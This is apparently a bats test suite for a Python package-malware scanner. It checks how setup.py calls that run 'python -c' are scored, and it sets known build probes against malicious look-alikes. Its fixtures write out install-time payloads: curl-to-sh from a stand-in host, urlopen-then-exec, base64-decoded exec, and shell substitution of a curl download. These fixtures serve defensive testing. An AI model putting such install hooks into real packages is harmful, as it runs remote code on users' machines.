#!/usr/bin/env bats
# 48c-payload-commands.bats: install-time processes whose code the package writes out (issue 11)
# — the interpreter run on `-c CODE` — each with the malicious variant that still weighs in
# full: code that downloads or shells out, decoded or computed code.

load helpers/common
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg; }

# tree_hits DIR [DETECTION...]: "line detection score tags" of the setup.py hits for a directory.
tree_hits() {
	local dir=$1
	shift
	local want
	want=$(printf '%s\n' "$@" | jq -R . | jq -sc 'map(select(. != ""))')
	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --argjson w "$want" 'select(.type == "hit" and (($w | length) == 0 or (.detection as $d | $w | index($d)))) |
			"\(.line) \(.detection) \(.score) \(.tags | map(select(. == "known-code" or . == "payload")) | join(","))"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r '.. | objects | select(has("risk")) | .risk' | head -1
}

# ---- the interpreter running code written out in the package ----

@test "rewrite attaches the code of [sys.executable, \"-sS\", \"-c\", CODE] as the call's payload" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
ver = subprocess.check_output([sys.executable, "-sS", "-c", "import platform; print(platform.mac_ver()[0])"])
PY
	run --separate-stderr bash -c 'aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite |
		jq -c "select(.type == \"ast\") | .. | objects | select(has(\"_payload\")) | [.lineno, ._payload_source, ._payload._type, ._payload._origin.rules]"'
	assert_success
	assert_output '[2,"import platform; print(platform.mac_ver()[0])","Module",[]]'
}

@test "cmake's macOS probe: the interpreter running a literal -c at install time takes the known_code score" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
from setuptools import setup
if sys.platform == "darwin":
    macos_ver = subprocess.check_output(
        [
            sys.executable,
            "-sS",
            "-c",
            "import platform; print(platform.mac_ver()[0])",
        ]
    ).decode()
setup(name="pkg")
PY
	run tree_hits pkg ProcessExecution
	assert_output '4 ProcessExecution 10 known-code'
	run risk pkg
	refute_output high
	refute_output critical
}

@test "python3 by name, -I / -E / -X options, a name bound to the literal: the same known code" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
PROBE = "import sysconfig; print(sysconfig.get_config_var('LIBDIR'))"
subprocess.run(["python3", "-I", "-c", PROBE], check=True)
subprocess.run(["/usr/bin/python3.12", "-E", "-X", "utf8", "-c", "print(1)"], shell=False)
subprocess.check_call([sys.executable, "-Ic", "import sys; " + "print(sys.version)"])
PY
	run tree_hits pkg ProcessExecution
	assert_output "$(printf '%s\n' '3 ProcessExecution 10 known-code' '4 ProcessExecution 10 known-code' \
		'5 ProcessExecution 10 known-code')"
}

@test "the -c code runs in a new interpreter: it sees none of setup.py's names" {
	# `run` is os.system in setup.py, but an undefined name in the child: no shell command.
	cat > pkg/setup.py <<'PY'
import subprocess, sys
from os import system as run
subprocess.run([sys.executable, "-c", "run('make')"])
PY
	run tree_hits pkg ProcessExecution ShellCommand
	assert_output '3 ProcessExecution 10 known-code'
}

# ---- malicious variants: the payload's own findings count, unknown code weighs in full ----

@test "look-alike: known -c code that shells out to curl|sh scores high through its own findings" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
subprocess.check_call([sys.executable, "-c", "import os; os.system('curl http://x.example/a|sh')"])
PY
	run tree_hits pkg ProcessExecution ShellCommand
	assert_output "$(printf '%s\n' '2 ProcessExecution 10 known-code' '2 ShellCommand 100 payload')"
	run risk pkg
	assert_output critical
}

@test "look-alike: known -c code that downloads and execs scores high through its own findings" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
subprocess.Popen(["python", "-c", "import urllib.request as u; exec(u.urlopen('https://x.example/y').read())"])
PY
	run tree_hits pkg CodeExecution NetworkRequest
	assert_output "$(printf '%s\n' '2 CodeExecution 100 payload' '2 NetworkRequest 80 payload')"
	run risk pkg
	assert_output --regexp '^(high|critical)$'
}

@test "look-alike: known -c code that decodes and execs a blob scores high through its own findings" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
subprocess.run([sys.executable, "-c", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))"])
PY
	run tree_hits pkg ShellCommand CodeExecution
	assert_output "$(printf '%s\n' '2 CodeExecution 100 payload' '2 ShellCommand 100 payload')"
	run risk pkg
	assert_output critical
}

@test "look-alike: decoded, chr-built, argv, environment and f-string -c code keeps the full process score" {
	cat > pkg/setup.py <<'PY'
import base64, os, subprocess, sys
subprocess.run([sys.executable, "-c", base64.b64decode("aW1wb3J0IHN5cw==").decode()])
subprocess.run([sys.executable, "-c", "".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115])])
subprocess.run([sys.executable, "-c", sys.argv[1]])
subprocess.run([sys.executable, "-c", os.environ["CODE"]])
subprocess.run([sys.executable, "-c", f"import {input()}"])
PY
	run tree_hits pkg ProcessExecution
	assert_output "$(printf '%s\n' '2 ProcessExecution 80 ' '3 ProcessExecution 80 ' '4 ProcessExecution 80 ' \
		'5 ProcessExecution 80 ' '6 ProcessExecution 80 ')"
}

@test "look-alike: -m, a missing script, a shell, an unknown option or another program keeps the full process score" {
	cat > pkg/setup.py <<'PY'
import subprocess, sys
subprocess.run([sys.executable, "-m", "pip", "install", "x"])
subprocess.run([sys.executable, "-c", "import sys"], shell=True)
subprocess.run([sys.executable, "--check-hash-based-pycs", "never", "-c", "import sys"])
subprocess.run(["node", "-c", "import sys"])
subprocess.run([sys.executable, "-c", "import sys"], executable="/tmp/x")
PY
	run tree_hits pkg ProcessExecution
	assert_output "$(printf '%s\n' '2 ProcessExecution 80 ' '3 ProcessExecution 80 ' '4 ProcessExecution 80 ' \
		'5 ProcessExecution 80 ' '6 ProcessExecution 80 ')"
}

# ---- the same in one simple shell command ----

@test "python -c CODE in one simple shell command (os.system, shell=True) is known code too" {
	cat > pkg/setup.py <<'PY'
import os, subprocess
os.system("python3 -c 'import sys; print(sys.prefix)'")
inc = subprocess.check_output("python -I -c \"import sysconfig; print(sysconfig.get_paths()['include'])\"", shell=True)
PY
	run tree_hits pkg ProcessExecution ShellCommand
	assert_output "$(printf '%s\n' '2 ShellCommand 10 known-code' '3 ProcessExecution 10 known-code')"
}

@test "look-alike: a shell command with a pipe, a substitution, a second command or -m keeps the full score; known code still counts" {
	cat > pkg/setup.py <<'PY'
import os
os.system("python3 -c 'import sys' | sh")
os.system("python3 -c \"$(curl -s x.example)\"")
os.popen("python3 -c 'print(1)'; id")
os.system("python3 -m pip install x")
os.system("python3 -c 'import os; os.system(\"id\")'")
PY
	run tree_hits pkg ShellCommand
	assert_output "$(printf '%s\n' '2 ShellCommand 100 ' '3 ShellCommand 100 ' '4 ShellCommand 100 ' \
		'5 ShellCommand 100 ' '6 ShellCommand 10 known-code' '6 ShellCommand 100 payload')"
}

# ---- build arguments made by a comprehension ----

@test "av's pkg-config call: [pkg_config, \"--libs\"] + [\"lib\" + name for name in LIBRARIES] is a build command" {
	cat > pkg/setup.py <<'PY'
import os, subprocess
FFMPEG_LIBRARIES = ["avformat", "avcodec", "swscale"]
def get_config_from_pkg_config():
    pkg_config = os.environ.get("PKG_CONFIG", "pkg-config")
    return subprocess.check_output(
        [pkg_config, "--cflags", "--libs"]
        + ["lib" + name for name in FFMPEG_LIBRARIES]
    )
get_config_from_pkg_config()
subprocess.check_output(["pkg-config", "--libs"] + ["-l" + n for n in ("gss", "krb5")])
PY
	run tree_hits pkg ProcessExecution
	assert_output "$(printf '%s\n' '10 ProcessExecution 10 ' '5 ProcessExecution 10 ')"
}

@test "look-alike: a comprehension over a URL, a pipe, decoded text, input, a parameter or a list the file changes keeps the full score" {
	cat > pkg/setup.py <<'PY'
import base64, os, subprocess, sys
URLS = ["http://x.example/a.sh"]
NAMES = ["avformat"]
NAMES.append(sys.argv[1])
subprocess.check_output(["pkg-config", "--cflags"] + [u for u in URLS])
subprocess.check_output(["pkg-config", "--cflags"] + [n for n in ["a|sh"]])
subprocess.check_output(["pkg-config", "--cflags"] + [base64.b64decode(n).decode() for n in ["YQ=="]])
subprocess.check_output(["pkg-config", "--cflags"] + [n for n in os.environ["LIBS"].split()])
subprocess.check_output(["pkg-config", "--cflags"] + ["lib" + n for n in NAMES])
def probe(libs):
    subprocess.check_output(["pkg-config", "--libs"] + [n for n in libs])
probe(sys.argv)
PY
	run tree_hits pkg ProcessExecution
	assert_output "$(printf '%s\n' '11 ProcessExecution 80 ' '5 ProcessExecution 80 ' '6 ProcessExecution 80 ' \
		'7 ProcessExecution 80 ' '8 ProcessExecution 80 ' '9 ProcessExecution 80 ')"
}
